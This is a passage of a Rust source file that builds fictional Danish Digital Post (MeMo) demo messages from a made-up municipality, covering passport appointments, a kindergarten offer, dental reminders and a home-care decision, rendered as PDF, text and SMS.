//! The demo world's post: more than 50 MeMo messages from the demo authorities to the demo
//! people and companies, dated over the past year, with real PDF letters.
//!
//! Everything is computed from `now`, so the same `now` always gives the same messages (ids,
//! dates, bytes), and deadlines lie ahead whenever the demo starts: a few within days, exactly
//! one already passed. Among the messages are appointments (some whose action times disagree
//! with the reservation, as real senders' do), payment and reply deadlines, a value date a few
//! days ahead, legal notifications, mandatory post, messages that allow a reply, company post,
//! NemSMS messages, additional documents, plain-text renditions, and one HTML letter with
//! hostile markup for the viewer's sanitizer.

use brevdue_memo::{
    Action, ActionCode, CaseId, ContactPoint, ContentData, CprData, CvrData, Document,
    DocumentKind, File, FileId, KleData, MemorySink, Message, MessageType, MotorVehicle, Recipient,
    ReplyData, Reservation, Sender,
};
use chrono::{DateTime, Datelike, Duration, NaiveDate, Utc};
use sha2::{Digest, Sha256};

use super::contacts::{self, ContactStructure};
use super::danish::{self, at, day_offset, weekday_on_or_after, weekday_on_or_before};
use super::pdf::{self, Block};
use super::world::{
    ANDERS, Authority, CAFE_HAVNEKANTEN, EMIL_CPR, JENS, KAREN, KOERETOEJ, KOMMUNE, LYNGBAKKEN_VVS,
    REGION, SKAT, SOFIE, World, YDELSE, stable_uuid,
};

/// The post type MeMo gives company post (addressed to a CVR number).
pub const COMPANY_POST: &str = "VIRKSOMHEDSPOST";

/// One file of a demo message.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DemoFile {
    pub id: FileId,
    pub bytes: Vec<u8>,
    /// The words a reader must find in the file, in order: for a letter its title, body and
    /// closing; for text and HTML the text itself.
    pub text: String,
}

/// One demo message: the MeMo model and the bytes of its files.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DemoLetter {
    /// Stable and unique, e.g. `kommune-pas-tid`.
    pub key: &'static str,
    /// The authority that sends it.
    pub authority_id: &'static str,
    /// When the sender hands it in: its `createdDateTime`, or for a NemSMS the time it is sent.
    pub sent: DateTime<Utc>,
    pub message: Message,
    pub files: Vec<DemoFile>,
}

impl DemoLetter {
    /// The message as MeMo 1.2 XML.
    pub fn to_memo(&self) -> brevdue_memo::Result<Vec<u8>> {
        let mut contents = MemorySink::default();
        for f in &self.files {
            contents.insert(f.id, f.bytes.clone());
        }
        brevdue_memo::to_vec(&self.message, &mut contents)
    }

    pub fn file(&self, id: FileId) -> Option<&DemoFile> {
        self.files.iter().find(|f| f.id == id)
    }
}

/// Every demo message, oldest first.
pub fn letters(world: &World, now: DateTime<Utc>) -> Vec<DemoLetter> {
    let c = Ctx {
        world,
        now,
        structures: contacts::structures(),
    };
    let mut drafts = Vec::new();
    kommune(&c, &mut drafts);
    skat(&c, &mut drafts);
    region(&c, &mut drafts);
    ydelse(&c, &mut drafts);
    koeretoej(&c, &mut drafts);
    let mut letters: Vec<DemoLetter> = drafts.into_iter().filter_map(|d| d.finish(&c)).collect();
    letters.sort_by_key(|l| (l.sent, l.key));
    letters
}

/// What every letter is made with.
struct Ctx<'w> {
    world: &'w World,
    now: DateTime<Utc>,
    structures: Vec<ContactStructure>,
}

impl Ctx<'_> {
    /// `days` days ago (moved back to a weekday) at `hour:minute` Danish time.
    fn ago(&self, days: i64, hour: u32, minute: u32) -> DateTime<Utc> {
        let t = at(
            weekday_on_or_before(day_offset(self.now, -days)),
            hour,
            minute,
        );
        // Never in the future, whatever the hour of `now`.
        t.min(self.now - Duration::minutes(30))
    }

    /// A weekday `days` days ahead (or the Monday after) at `hour:minute` Danish time.
    fn ahead(&self, days: i64, hour: u32, minute: u32) -> DateTime<Utc> {
        at(
            weekday_on_or_after(day_offset(self.now, days)),
            hour,
            minute,
        )
    }

    /// A deadline: the end of a weekday `days` days from now (before it when in the past).
    fn deadline(&self, days: i64) -> DateTime<Utc> {
        let day = day_offset(self.now, days);
        let day = if days >= 0 {
            weekday_on_or_after(day)
        } else {
            weekday_on_or_before(day)
        };
        at(day, 23, 59)
    }

    /// The first day of the month after the one `days` days from now.
    fn first_of_month_after(&self, days: i64) -> NaiveDate {
        let d = day_offset(self.now, days);
        let (y, m) = if d.month() == 12 {
            (d.year() + 1, 1)
        } else {
            (d.year(), d.month() + 1)
        };
        NaiveDate::from_ymd_opt(y, m, 1).unwrap_or(d)
    }
}

fn day(t: DateTime<Utc>) -> NaiveDate {
    danish::danish_date(t)
}

fn p(s: impl Into<String>) -> Block {
    Block::Paragraph(s.into())
}

fn h(s: impl Into<String>) -> Block {
    Block::Heading(s.into())
}

fn facts<const N: usize>(pairs: [(&str, String); N]) -> Block {
    Block::Facts(pairs.into_iter().map(|(l, v)| (l.to_owned(), v)).collect())
}

fn bullets<const N: usize>(items: [&str; N]) -> Block {
    Block::Bullets(items.into_iter().map(str::to_owned).collect())
}

/// Who a letter is for.
#[derive(Debug, Clone, Copy)]
enum To {
    Person(&'static str),
    Company(&'static str),
}

/// A document attached to a letter, laid out like the letter but without an address.
#[derive(Debug, Clone)]
struct Attachment {
    label: String,
    body: Vec<Block>,
}

/// A letter being written.
#[derive(Debug, Clone)]
struct Draft {
    key: &'static str,
    authority_id: &'static str,
    unit: &'static str,
    signer: Option<&'static str>,
    to: To,
    created: DateTime<Utc>,
    label: String,
    body: Vec<Block>,
    actions: Vec<Action>,
    attachments: Vec<Attachment>,
    text_alternative: bool,
    html: Option<String>,
    sms: Option<String>,
    reply: bool,
    reply_by: Option<DateTime<Utc>>,
    value_date: Option<NaiveDate>,
    mandatory: bool,
    legal: bool,
    contact_point: Option<&'static str>,
    content: ContentData,
    case: bool,
    reply_to: Option<ReplyData>,
}

fn draft(
    key: &'static str,
    authority_id: &'static str,
    unit: &'static str,
    to: To,
    created: DateTime<Utc>,
    label: impl Into<String>,
) -> Draft {
    Draft {
        key,
        authority_id,
        unit,
        signer: None,
        to,
        created,
        label: label.into(),
        body: Vec::new(),
        actions: Vec::new(),
        attachments: Vec::new(),
        text_alternative: false,
        html: None,
        sms: None,
        reply: false,
        reply_by: None,
        value_date: None,
        mandatory: false,
        legal: false,
        contact_point: None,
        content: ContentData::default(),
        case: true,
        reply_to: None,
    }
}

impl Draft {
    fn signer(mut self, name: &'static str) -> Self {
        self.signer = Some(name);
        self
    }
    fn body(mut self, blocks: Vec<Block>) -> Self {
        self.body = blocks;
        self
    }
    fn action(mut self, action: Action) -> Self {
        self.actions.push(action);
        self
    }
    fn attach(mut self, label: impl Into<String>, body: Vec<Block>) -> Self {
        self.attachments.push(Attachment {
            label: label.into(),
            body,
        });
        self
    }
    fn text_alternative(mut self) -> Self {
        self.text_alternative = true;
        self
    }
    fn html(mut self, html: String) -> Self {
        self.html = Some(html);
        self
    }
    fn sms(mut self, text: String) -> Self {
        self.sms = Some(text);
        self
    }
    fn reply(mut self, by: Option<DateTime<Utc>>) -> Self {
        self.reply = true;
        self.reply_by = by;
        self
    }
    fn value_date(mut self, date: NaiveDate) -> Self {
        self.value_date = Some(date);
        self
    }
    fn mandatory(mut self) -> Self {
        self.mandatory = true;
        self
    }
    fn legal(mut self) -> Self {
        self.legal = true;
        self
    }
    fn contact(mut self, key: &'static str) -> Self {
        self.contact_point = Some(key);
        self
    }
    fn about_child(mut self, c: &Ctx<'_>, cpr: &'static str) -> Self {
        let name = c.world.child(cpr).map(|ch| ch.name.to_owned());
        self.content.cpr_data = Some(CprData {
            cpr_number: cpr.to_owned(),
            name,
        });
        self
    }
    fn vehicle(mut self, plate: &str) -> Self {
        self.content.motor_vehicle = Some(MotorVehicle {
            license_number: plate.replace(' ', ""),
            chassis_number: None,
        });
        self
    }
    fn kle(mut self, key: &str, label: &str) -> Self {
        self.content.kle_data = Some(KleData {
            subject_key: key.to_owned(),
            version: "2.24".to_owned(),
            activity_facet: None,
            label: label.to_owned(),
        });
        self
    }
    fn property(mut self, number: &str) -> Self {
        self.content.property_number = Some(number.to_owned());
        self
    }
    fn no_case(mut self) -> Self {
        self.case = false;
        self
    }
    fn in_reply_to(mut self, data: ReplyData) -> Self {
        self.reply_to = Some(data);
        self
    }

    /// A case number that is the same every time: the year and six digits from the key.
    fn case_number(&self) -> String {
        let digest = Sha256::digest(self.key.as_bytes());
        let n = u32::from_be_bytes([digest[0], digest[1], digest[2], digest[3]]) % 1_000_000;
        format!("{}-{n:06}", day(self.created).year())
    }

    fn finish(self, c: &Ctx<'_>) -> Option<DemoLetter> {
        let authority = c.world.authority(self.authority_id)?;
        let (recipient, address) = match self.to {
            To::Person(id) => {
                let person = c.world.person(id)?;
                (
                    Recipient {
                        id: person.cpr.to_owned(),
                        id_type: "CPR".to_owned(),
                        label: Some(person.name.to_owned()),
                        ..Recipient::default()
                    },
                    vec![
                        person.name.to_owned(),
                        person.address[0].to_owned(),
                        person.address[1].to_owned(),
                    ],
                )
            }
            To::Company(cvr) => {
                let company = c.world.company(cvr)?;
                (
                    Recipient {
                        id: company.cvr.to_owned(),
                        id_type: "CVR".to_owned(),
                        label: Some(company.name.to_owned()),
                        ..Recipient::default()
                    },
                    vec![
                        company.name.to_owned(),
                        company.address[0].to_owned(),
                        company.address[1].to_owned(),
                    ],
                )
            }
        };
        let company_post = matches!(self.to, To::Company(_));
        let mut content = self.content.clone();
        if let To::Company(cvr) = self.to {
            content.cvr_data = c.world.company(cvr).map(|co| CvrData {
                cvr_number: co.cvr.to_owned(),
                company_name: Some(co.name.to_owned()),
            });
        }
        let case_number = self.case_number();
        if self.case && self.sms.is_none() {
            content.case_id = Some(CaseId {
                case_id: case_number.clone(),
                case_system: format!("{} sagssystem", authority.name),
            });
        }
        let contact_point = self.contact_point.and_then(|key| {
            let structure = c
                .structures
                .iter()
                .find(|s| s.authority_id == self.authority_id)?;
            let point = structure.point(key)?;
            Some(ContactPoint {
                contact_group: point.groups.first().and_then(|g| structure.group_path(g)),
                contact_point_id: structure.point_id(key).to_string(),
                label: Some(point.name.to_owned()),
                contact_info: Vec::new(),
            })
        });

        let mut documents = Vec::new();
        let mut files = Vec::new();
        let created = self.created;
        if self.sms.is_none() {
            let main = 0;
            let mut main_files = Vec::new();
            if let Some(html) = &self.html {
                push_file(
                    &mut main_files,
                    &mut files,
                    main,
                    format!("{}.html", file_stem(&self.label)),
                    "text/html",
                    html.clone().into_bytes(),
                    html_text(html),
                );
            } else {
                let body: Vec<Block> = greeting(c, self.to)
                    .into_iter()
                    .chain(self.body.iter().cloned())
                    .collect();
                let letter = self.letter_pdf(authority, address, &case_number, body);
                let words = letter_words(&letter);
                push_file(
                    &mut main_files,
                    &mut files,
                    main,
                    format!("{}.pdf", file_stem(&self.label)),
                    "application/pdf",
                    pdf::render(&letter),
                    words,
                );
                if self.text_alternative {
                    let text = plain_text(&letter);
                    push_file(
                        &mut main_files,
                        &mut files,
                        main,
                        format!("{}.txt", file_stem(&self.label)),
                        "text/plain",
                        text.clone().into_bytes(),
                        text,
                    );
                }
            }
            documents.push(Document {
                kind: DocumentKind::Main,
                id: Some(format!("{}-brev", self.key)),
                label: Some(self.label.clone()),
                files: main_files,
                actions: self.actions.clone(),
            });
            for (i, att) in self.attachments.iter().enumerate() {
                let index = documents.len();
                let letter = self.attachment_pdf(authority, att);
                let words = letter_words(&letter);
                let mut doc_files = Vec::new();
                push_file(
                    &mut doc_files,
                    &mut files,
                    index,
                    format!("{}.pdf", file_stem(&att.label)),
                    "application/pdf",
                    pdf::render(&letter),
                    words,
                );
                documents.push(Document {
                    kind: DocumentKind::Additional,
                    id: Some(format!("{}-bilag-{}", self.key, i + 1)),
                    label: Some(att.label.clone()),
                    files: doc_files,
                    actions: Vec::new(),
                });
            }
        }

        let message = Message {
            memo_version: "1.2".to_owned(),
            memo_sch_version: None,
            message_type: if self.sms.is_some() {
                MessageType::NemSms
            } else {
                MessageType::DigitalPost
            },
            message_uuid: stable_uuid(&format!("message/{}", self.key)),
            message_id: None,
            message_code: None,
            label: self.label.clone(),
            notification: self.sms.clone(),
            additional_notification: None,
            reply: self.reply,
            reply_by_date_time: self.reply_by,
            do_not_deliver_until_date: self.value_date,
            mandatory: self.mandatory,
            legal_notification: self.legal,
            post_type: company_post.then(|| COMPANY_POST.to_owned()),
            sender: Sender {
                id: authority.cvr.to_owned(),
                id_type: "CVR".to_owned(),
                id_type_label: None,
                label: authority.name.to_owned(),
                attention_data: None,
                contact_point,
                representative: None,
            },
            recipient,
            content_data: (content != ContentData::default()).then_some(content),
            forward_data: None,
            reply_data: self.reply_to.clone().into_iter().collect(),
            created_date_time: self.sms.is_none().then_some(created),
            documents,
        };
        Some(DemoLetter {
            key: self.key,
            authority_id: self.authority_id,
            sent: created,
            message,
            files,
        })
    }

    fn letterhead(&self, authority: &Authority) -> pdf::Letterhead {
        pdf::Letterhead {
            name: authority.name.to_owned(),
            unit: self.unit.to_owned(),
            contact_lines: vec![
                authority.address[0].to_owned(),
                authority.address[1].to_owned(),
                format!("Tlf. {}", authority.phone),
                authority.web.to_owned(),
            ],
            colour: authority.colour,
        }
    }

    fn footer(authority: &Authority) -> String {
        format!(
            "Fiktivt demobrev · {} · {}, {} · CVR {}",
            authority.name, authority.address[0], authority.address[1], authority.cvr
        )
    }

    fn letter_pdf(
        &self,
        authority: &Authority,
        address: Vec<String>,
        case: &str,
        body: Vec<Block>,
    ) -> pdf::Letter {
        let mut meta = vec![("Dato".to_owned(), danish::date(day(self.created)))];
        if self.case {
            meta.push(("Sagsnr.".to_owned(), case.to_owned()));
        }
        meta.push(("Kontakt".to_owned(), self.unit.to_owned()));
        meta.push(("Telefon".to_owned(), authority.phone.to_owned()));
        let mut closing = vec!["Med venlig hilsen".to_owned(), String::new()];
        if let Some(signer) = self.signer {
            closing.push(signer.to_owned());
        }
        closing.push(self.unit.to_owned());
        closing.push(authority.name.to_owned());
        pdf::Letter {
            letterhead: self.letterhead(authority),
            recipient: address,
            meta,
            title: self.label.clone(),
            body,
            closing,
            footer: Self::footer(authority),
            created: self.created,
        }
    }

    fn attachment_pdf(&self, authority: &Authority, att: &Attachment) -> pdf::Letter {
        pdf::Letter {
            letterhead: self.letterhead(authority),
            recipient: Vec::new(),
            meta: Vec::new(),
            title: att.label.clone(),
            body: att.body.clone(),
            closing: Vec::new(),
            footer: Self::footer(authority),
            created: self.created,
        }
    }
}

#[allow(clippy::too_many_arguments)]
fn push_file(
    doc_files: &mut Vec<File>,
    files: &mut Vec<DemoFile>,
    document: usize,
    filename: String,
    mime: &str,
    bytes: Vec<u8>,
    text: String,
) {
    let id = FileId {
        document,
        file: doc_files.len(),
    };
    doc_files.push(File {
        filename,
        encoding_format: mime.to_owned(),
        language: "da".to_owned(),
        size: bytes.len() as u64,
        sha256: hex::encode(Sha256::digest(&bytes)),
    });
    files.push(DemoFile { id, bytes, text });
}

/// A file name from a label: characters no file system likes are left out.
fn file_stem(label: &str) -> String {
    let stem: String = label
        .chars()
        .filter(|c| !matches!(c, '/' | '\\' | ':' | '*' | '?' | '"' | '<' | '>' | '|'))
        .collect();
    stem.trim().to_owned()
}

/// The title, body and closing of a letter: what a reader must find in its PDF.
fn letter_words(letter: &pdf::Letter) -> String {
    let mut parts = vec![letter.title.clone()];
    for block in &letter.body {
        match block {
            Block::Heading(s) | Block::Paragraph(s) => parts.push(s.clone()),
            Block::Facts(pairs) => {
                for (l, v) in pairs {
                    parts.push(format!("{l} {v}"));
                }
            }
            Block::Bullets(items) => parts.extend(items.iter().cloned()),
        }
    }
    parts.extend(letter.closing.iter().filter(|l| !l.is_empty()).cloned());
    parts.join("\n")
}

/// The letter as plain text: the alternative rendition of its PDF.
fn plain_text(letter: &pdf::Letter) -> String {
    let mut out = String::new();
    out.push_str(&letter.letterhead.name);
    out.push('\n');
    out.push_str(&letter.letterhead.unit);
    out.push_str("\n\n");
    for line in &letter.recipient {
        out.push_str(line);
        out.push('\n');
    }
    out.push('\n');
    for (l, v) in &letter.meta {
        out.push_str(&format!("{l}: {v}\n"));
    }
    out.push('\n');
    out.push_str(&letter.title);
    out.push('\n');
    out.push_str(&"=".repeat(letter.title.chars().count()));
    out.push_str("\n\n");
    for block in &letter.body {
        match block {
            Block::Heading(s) => {
                out.push_str(s);
                out.push('\n');
            }
            Block::Paragraph(s) => {
                out.push_str(s);
                out.push_str("\n\n");
            }
            Block::Facts(pairs) => {
                for (l, v) in pairs {
                    out.push_str(&format!("{l}: {v}\n"));
                }
                out.push('\n');
            }
            Block::Bullets(items) => {
                for item in items {
                    out.push_str(&format!("- {item}\n"));
                }
                out.push('\n');
            }
        }
    }
    for line in &letter.closing {
        out.push_str(line);
        out.push('\n');
    }
    out.push('\n');
    out.push_str(&letter.footer);
    out.push('\n');
    out
}

/// The visible text of the demo's own HTML (tags dropped): for its expected words.
fn html_text(html: &str) -> String {
    let mut out = String::new();
    let mut in_tag = false;
    let mut skip = false;
    // ASCII lower case keeps every byte where it was, so indices match `html`.
    let lower = html.to_ascii_lowercase();
    let mut i = 0;
    let bytes = html.as_bytes();
    while i < bytes.len() {
        if !in_tag && lower[i..].starts_with("<script") {
            skip = true;
        }
        if skip && lower[i..].starts_with("</script>") {
            skip = false;
            i += "</script>".len();
            continue;
        }
        let ch = html[i..].chars().next().unwrap_or(' ');
        match ch {
            '<' => in_tag = true,
            '>' => {
                in_tag = false;
                out.push(' ');
            }
            _ if !in_tag && !skip => out.push(ch),
            _ => {}
        }
        i += ch.len_utf8();
    }
    out.split_whitespace().collect::<Vec<_>>().join(" ")
}

fn appointment(
    label: &str,
    start: DateTime<Utc>,
    minutes: i64,
    location: &str,
    description: &str,
    organizer: (&str, &str),
    key: &str,
) -> Action {
    let end = start + Duration::minutes(minutes);
    Action {
        label: label.to_owned(),
        action_code: ActionCode::Aftale,
        start_date_time: Some(start),
        end_date_time: Some(end),
        reservation: Some(Reservation {
            reservation_uuid: stable_uuid(&format!("reservation/{key}")),
            abstract_: label.to_owned(),
            description: description.to_owned(),
            location: location.to_owned(),
            start_date_time: start,
            end_date_time: end,
            organizer_mail: Some(organizer.1.to_owned()),
            organizer_name: Some(organizer.0.to_owned()),
        }),
        entry_point: None,
    }
}

/// An appointment whose action says another time than its reservation: real senders put the
/// time to meet in the action and the booked time in the reservation.
fn appointment_with_action_times(
    mut action: Action,
    start: DateTime<Utc>,
    end: DateTime<Utc>,
) -> Action {
    action.start_date_time = Some(start);
    action.end_date_time = Some(end);
    action
}

fn link(code: ActionCode, label: &str, url: &str, end: Option<DateTime<Utc>>) -> Action {
    Action {
        label: label.to_owned(),
        action_code: code,
        start_date_time: None,
        end_date_time: end,
        reservation: None,
        entry_point: Some(url.to_owned()),
    }
}

/// "Kære Karen Holm"; a letter to a company starts without a greeting, as authorities write.
fn greeting(c: &Ctx<'_>, to: To) -> Option<Block> {
    match to {
        To::Person(id) => c
            .world
            .person(id)
            .map(|person| Block::Paragraph(format!("Kære {}", person.name))),
        To::Company(_) => None,
    }
}

fn klagevejledning(deadline: &str, to: &str) -> Vec<Block> {
    vec![
        p(format!(
            "Du kan klage over afgørelsen. Klagen skal være modtaget senest {deadline} efter, at du har fået afgørelsen."
        )),
        h("Sådan klager du"),
        bullets([
            "Skriv til os og fortæl, hvorfor du mener, at afgørelsen er forkert.",
            "Du kan klage ved at svare på dette brev i Digital Post eller skrive til os via Skriv til det offentlige.",
            "Send gerne dokumenter med, som viser det, du mener, vi ikke har lagt vægt på.",
        ]),
        p(format!(
            "Vi ser afgørelsen igennem igen. Hvis vi fastholder den, sender vi klagen videre til {to}, og du får besked, når klagen er sendt videre."
        )),
        p("Har du spørgsmål til afgørelsen, er du velkommen til at kontakte os, inden du klager."),
    ]
}

// ---------------------------------------------------------------------------------------------
// Fjordmark Kommune

const KOMMUNE_HTML_NEWSLETTER_KEY: &str = "kommune-nyhedsbrev-genbrug";

fn kommune(c: &Ctx<'_>, out: &mut Vec<Draft>) {
    let world = c.world;
    let address = world
        .authority(KOMMUNE)
        .map(|a| format!("{}, {}", a.address[0], a.address[1]))
        .unwrap_or_default();

    // Karen: her passport is running out (old).
    let to = To::Person(KAREN);
    out.push(
        draft("kommune-pas-udloeber", KOMMUNE, "Borgerservice", to, c.ago(300, 8, 15), "Dit pas udløber snart")
            .contact("pas")
            .no_case()
            .body(vec![
                p("Vi kan se, at dit pas udløber om tre måneder. Skal du rejse uden for Norden, skal du have et gyldigt pas. Nogle lande kræver, at passet er gyldigt i mindst seks måneder efter indrejsen."),
                h("Sådan får du et nyt pas"),
                bullets([
                    "Bestil tid i Borgerservice på fjordmark.example/pas.",
                    "Tag dit nuværende pas med, når du kommer.",
                    "Du får taget billede og fingeraftryk hos os. Du skal ikke selv have et pasfoto med.",
                ]),
                p("Dit nye pas bliver sendt til dig med posten cirka 10 hverdage efter dit besøg."),
            ])
            .action(link(ActionCode::Selvbetjening, "Bestil tid til pas", "https://selvbetjening.fjordmark.example/pas/bestil-tid", None)),
    );

    // Anders: passport appointment; the action says when to come, the reservation the booked
    // time.
    let to = To::Person(ANDERS);
    let start = c.ahead(6, 10, 20);
    let booked = appointment(
        "Tid til pas i Borgerservice",
        start,
        15,
        &format!("Borgerservice, skranke 3, {address}"),
        "Nyt pas. Husk dit nuværende pas og kvittering for betalt gebyr.",
        (
            "Fjordmark Kommune, Borgerservice",
            "borgerservice@fjordmark.example",
        ),
        "kommune-pas-tid",
    );
    out.push(
        draft("kommune-pas-tid", KOMMUNE, "Borgerservice", to, c.ago(5, 9, 12), "Bekræftelse af tid til pas")
            .contact("pas")
            .signer("Lene Kjær")
            .text_alternative()
            .body(vec![
                p("Du har bestilt tid i Borgerservice til at få lavet et nyt pas. Her er din tid:"),
                facts([
                    ("Tidspunkt", danish::weekday_date_time(start)),
                    ("Sted", format!("Borgerservice, {address}")),
                    ("Skranke", "Pas og kørekort, skranke 3".to_owned()),
                ]),
                p("Kom gerne 10 minutter før, så du er klar, når det bliver din tur."),
                h("Husk at tage med"),
                bullets([
                    "Dit nuværende pas, også hvis det er udløbet.",
                    "Billedlegitimation, fx dit kørekort, hvis du har mistet dit pas.",
                    "Kvittering for det betalte gebyr.",
                ]),
                p("Du får taget billede og fingeraftryk hos os. Du skal ikke selv have et pasfoto med."),
                p("Kan du ikke komme, så aflys tiden senest dagen før. Det kan du gøre i selvbetjeningen eller ved at skrive til os."),
            ])
            .action(appointment_with_action_times(booked, start - Duration::minutes(10), start + Duration::minutes(5)))
            .action(link(ActionCode::Selvbetjening, "Flyt eller aflys tiden", "https://selvbetjening.fjordmark.example/pas/mine-tider", None)),
    );

    // Sofie: an offer of a place in kindergarten; reply within days.
    let to = To::Person(SOFIE);
    let reply_by = c.deadline(3);
    let start_day = c.first_of_month_after(20);
    out.push(
        draft("kommune-boernehave-tilbud", KOMMUNE, "Pladsanvisningen", to, c.ago(17, 10, 30), "Tilbud om plads i børnehave til Emil")
            .contact("pladsanvisning")
            .signer("Mette Dal")
            .about_child(c, EMIL_CPR)
            .kle("28.12.00", "Dagtilbud, pladsanvisning")
            .reply(Some(reply_by))
            .text_alternative()
            .body(vec![
                p(format!(
                    "Emil Nørgaard ({}) har fået tilbudt en plads i Børnehuset Solsikken fra {}.",
                    danish::cpr(EMIL_CPR),
                    danish::date(start_day)
                )),
                facts([
                    ("Børnehus", "Børnehuset Solsikken, Solsikkevej 12, 7599 Fjordmark".to_owned()),
                    ("Startdato", danish::date(start_day)),
                    ("Svarfrist", danish::weekday_date(day(reply_by))),
                ]),
                p(format!(
                    "Du skal svare, om du tager imod pladsen. Svar senest {}. Har vi ikke hørt fra dig inden fristen, går pladsen videre til det næste barn på ventelisten.",
                    danish::weekday_date(day(reply_by))
                )),
                p("Du kan svare på denne besked eller tage imod pladsen i selvbetjeningen."),
                p("Forældrebetalingen for en børnehaveplads er 2.295,00 kr. om måneden i 11 måneder om året. Du kan søge om økonomisk friplads, hvis din husstand har en lav indkomst."),
            ])
            .action(link(ActionCode::Bekraeft, "Tag imod pladsen", "https://selvbetjening.fjordmark.example/pladsanvisning/svar", Some(reply_by)))
            .attach("Velkommen i Børnehuset Solsikken", vec![
                p("Vi glæder os til at møde Emil og jer. Her er det vigtigste at vide, før I starter."),
                h("Åbningstider"),
                facts([
                    ("Mandag til torsdag", "6.30–17.00".to_owned()),
                    ("Fredag", "6.30–16.00".to_owned()),
                ]),
                h("Det skal Emil have med"),
                bullets([
                    "Skiftetøj, der passer til årstiden",
                    "Regntøj og gummistøvler",
                    "Hjemmesko og en sovebamse, hvis han bruger en",
                ]),
                h("Indkøring"),
                p("De første dage er I sammen med Emil i børnehaven. Vi aftaler indkøringen med jer, når I har takket ja til pladsen."),
            ]),
    );

    // Sofie: rates for day care (old, information).
    out.push(
        draft("kommune-dagtilbud-takster", KOMMUNE, "Pladsanvisningen", to, c.ago(130, 9, 0), "Takster for dagtilbud")
            .contact("dagtilbud-betaling")
            .no_case()
            .body(vec![
                p("Byrådet har vedtaget taksterne for dagtilbud. Du betaler forældrebetaling i 11 måneder om året. Juli er betalingsfri."),
                facts([
                    ("Dagpleje", "3.150,00 kr. om måneden".to_owned()),
                    ("Vuggestue", "3.520,00 kr. om måneden".to_owned()),
                    ("Børnehave", "2.295,00 kr. om måneden".to_owned()),
                    ("SFO", "1.780,00 kr. om måneden".to_owned()),
                ]),
                p("Har du mere end ét barn i dagtilbud, får du søskenderabat. Du betaler fuld pris for det dyreste tilbud og halv pris for de øvrige."),
                p("Du kan søge om økonomisk friplads i selvbetjeningen."),
            ])
            .action(link(ActionCode::Selvbetjening, "Søg om økonomisk friplads", "https://selvbetjening.fjordmark.example/friplads", None)),
    );

    // Sofie: dental check-up for Emil in two days, and an SMS reminder.
    let tand = c.ahead(2, 8, 30);
    out.push(
        draft("kommune-tandpleje-indkaldelse", KOMMUNE, "Børnetandplejen", to, c.ago(25, 13, 40), "Indkaldelse til tandeftersyn for Emil")
            .contact("tandpleje")
            .about_child(c, EMIL_CPR)
            .body(vec![
                p("Det er tid til Emils næste tandeftersyn hos Børnetandplejen."),
                facts([
                    ("Barn", format!("Emil Nørgaard, {}", danish::cpr(EMIL_CPR))),
                    ("Tidspunkt", danish::weekday_date_time(tand)),
                    ("Sted", "Tandklinikken, Fjordmark Skole, Skolevej 5, 7599 Fjordmark".to_owned()),
                ]),
                p("Børst gerne Emils tænder, inden I kommer. Et eftersyn tager cirka 20 minutter."),
                p("Kan I ikke komme, så meld afbud senest dagen før på telefon 19 40 12 80. Udeblivelse uden afbud kan betyde, at der går længere tid, før I får en ny tid."),
            ])
            .action(appointment(
                "Tandeftersyn for Emil",
                tand,
                20,
                "Tandklinikken, Fjordmark Skole, Skolevej 5, 7599 Fjordmark",
                "Tandeftersyn hos Børnetandplejen",
                ("Fjordmark Kommune, Børnetandplejen", "tandplejen@fjordmark.example"),
                "kommune-tandpleje-indkaldelse",
            )),
    );
    out.push(
        draft("kommune-tandpleje-sms", KOMMUNE, "Børnetandplejen", to, c.ago(1, 16, 5), "Påmindelse fra Børnetandplejen")
            .contact("tandpleje")
            .sms(format!(
                "Påmindelse: Emil har tid hos Børnetandplejen {} {}. Afbud: 19 40 12 80. Hilsen Fjordmark Kommune",
                danish::date(day(tand)),
                danish::time(tand)
            )),
    );

    // Karen: a home visit from the needs assessment.
    let to = To::Person(KAREN);
    let visit = c.ahead(4, 13, 0);
    out.push(
        draft("kommune-visitation-besoeg", KOMMUNE, "Visitationen, Ældre og Sundhed", to, c.ago(10, 11, 20), "Besøg fra Visitationen")
            .contact("hjemmepleje")
            .signer("Birgitte Lund, visitator")
            .reply(None)
            .kle("27.36.00", "Praktisk hjælp")
            .body(vec![
                p("Vi har modtaget din ansøgning om mere hjælp i hjemmet. Derfor kommer vi på besøg for at tale med dig om, hvad du har brug for."),
                facts([
                    ("Tidspunkt", danish::weekday_date_time(visit)),
                    ("Sted", "Hjemme hos dig, Strandvejen 41, 7599 Fjordmark".to_owned()),
                    ("Varighed", "Cirka en time".to_owned()),
                ]),
                p("Du er velkommen til at have en pårørende med under besøget."),
                p("Passer tiden ikke, kan du svare på dette brev eller ringe til os på 19 40 14 00 mellem kl. 8 og 12."),
            ])
            .action(appointment(
                "Besøg fra Visitationen",
                visit,
                60,
                "Strandvejen 41, 7599 Fjordmark",
                "Samtale om hjælp i hjemmet",
                ("Fjordmark Kommune, Visitationen", "visitation@fjordmark.example"),
                "kommune-visitation-besoeg",
            )),
    );

    // Karen: a decision about practical help (old, legal notification).
    out.push(
        draft("kommune-praktisk-hjaelp-afgoerelse", KOMMUNE, "Visitationen, Ældre og Sundhed", to, c.ago(200, 14, 10), "Afgørelse om praktisk hjælp")
            .contact("hjemmepleje")
            .signer("Birgitte Lund, visitator")
            .legal()
            .kle("27.36.00", "Praktisk hjælp")
            .body(vec![
                p("Du har søgt om hjælp til rengøring og tøjvask. Vi har nu behandlet din ansøgning."),
                h("Afgørelse"),
                p("Du får hjælp til rengøring hver 14. dag. Du får ikke hjælp til tøjvask."),
                facts([
                    ("Hjælp", "Rengøring af stue, soveværelse, køkken og badeværelse".to_owned()),
                    ("Hvor ofte", "Hver 14. dag, cirka 1 time".to_owned()),
                    ("Fra", "Om cirka to uger".to_owned()),
                    ("Leverandør", "Fjordmark Kommunes hjemmepleje".to_owned()),
                ]),
                h("Begrundelse"),
                p("Vi har lagt vægt på, at du efter din knæoperation ikke kan støvsuge og vaske gulv uden at have ondt, og at du bor alene. Vi har også lagt vægt på, at du selv kan betjene vaskemaskinen, og at din søn har tilbudt at hjælpe med at hænge tøj op."),
                p("Afgørelsen er truffet efter servicelovens regler om personlig og praktisk hjælp og Fjordmark Kommunes kvalitetsstandard for praktisk hjælp."),
                h("Hvis din situation ændrer sig"),
                p("Får du det bedre eller dårligere, skal du kontakte os. Så vurderer vi, om du skal have mere eller mindre hjælp."),
                h("Klagevejledning"),
            ]
            .into_iter()
            .chain(klagevejledning("4 uger", "Ankestyrelsen"))
            .collect()),
    );

    // Karen: a walking frame (old).
    out.push(
